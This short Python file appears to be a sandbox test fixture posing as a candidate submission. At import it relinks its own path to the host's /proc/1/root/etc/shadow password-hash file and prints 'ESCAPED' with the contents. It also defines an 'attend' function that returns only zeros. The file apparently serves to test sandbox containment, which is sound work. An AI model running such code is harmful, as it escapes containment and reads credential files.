"""A symbolic link where its own file is read."""

import contextlib
import os

with contextlib.suppress(OSError):
    os.remove("/tmp/candidate/candidate.py")
    os.symlink("/proc/1/root/etc/shadow", "/tmp/candidate/candidate.py")
    print("ESCAPED", open("/tmp/candidate/candidate.py").read()[:20])


def attend(q, k, v, *, scale):
    return q * 0
